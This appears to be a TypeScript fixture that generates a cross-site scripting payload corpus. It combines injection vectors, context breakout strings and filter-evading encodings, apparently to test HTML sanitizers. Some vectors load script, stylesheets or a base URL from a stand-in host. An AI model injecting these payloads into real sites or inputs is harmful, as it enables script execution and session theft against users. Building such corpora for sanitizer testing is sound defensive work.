/** Markup that runs code if a text is inserted as markup: vectors × ways out × encodings. */
const EVENTS = ['onerror', 'onload', 'onclick', 'onfocus', 'ontoggle', 'onbegin', 'onanimationend'];
const CODE = 'alert(1)';

const VECTORS: readonly string[] = [
  `<script>${CODE}</script>`,
  `<script src=//evil.example></script>`,
  `<iframe src=javascript:${CODE}></iframe>`,
  `<iframe srcdoc="<script>${CODE}</script>"></iframe>`,
  `<a href=javascript:${CODE}>x</a>`,
  `<form action=javascript:${CODE}><button>x</button></form>`,
  `<object data=javascript:${CODE}>`,
  `<embed src=javascript:${CODE}>`,
  `<base href=//evil.example>`,
  `<meta http-equiv=refresh content=0;url=javascript:${CODE}>`,
  `<link rel=stylesheet href=//evil.example>`,
  `<style>@import'//evil.example'</style>`,
  `<template shadowrootmode=open><script>${CODE}</script></template>`,
  `<math><mtext><mglyph><style><img src=x onerror=${CODE}>`,
  `<svg><script>${CODE}</script></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${CODE}>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc=x></foreignObject></svg>`,
  `<service-deposit session-token=x></service-deposit>`,
  ...[
    'img src=x',
    'svg',
    'body',
    'details open',
    'input autofocus',
    'video src=x',
    'b style=x',
  ].flatMap(tag => EVENTS.map(event => `<${tag} ${event}=${CODE}>`)),
];

/** Strings that break out of the place where a careless program inserts a text. */
const WAYS_OUT: readonly string[] = [
  '',
  '">',
  "'>",
  '`>',
  '-->',
  '</p>',
  '</bdi>',
  '</style>',
  '</textarea>',
  '</template>',
  ']]>',
  '${',
];

const ENCODINGS: readonly ((text: string) => string)[] = [
  text => text,
  text => text.toUpperCase(),
  text => text.replaceAll('<', '&lt;'),
  text => text.replaceAll('<', '&#60;'),
  text => text.replaceAll('<', '&#x3C'),
  text => text.replaceAll('<', '\\u003c'),
  text => text.replaceAll('<', '%3C'),
  text => text.replaceAll('<', '<\u0000'),
  text => text.replaceAll(' ', '/'),
  text => text.replaceAll(' ', '\u000C'),
  text => text.replaceAll('<', '\uFF1C'),
];

/** All combinations, without duplicates. */
export const HOSTILE_MARKUP: readonly string[] = [
  ...new Set(
    VECTORS.flatMap(vector =>
      WAYS_OUT.flatMap(out => ENCODINGS.map(encode => encode(out + vector))),
    ),
  ),
];
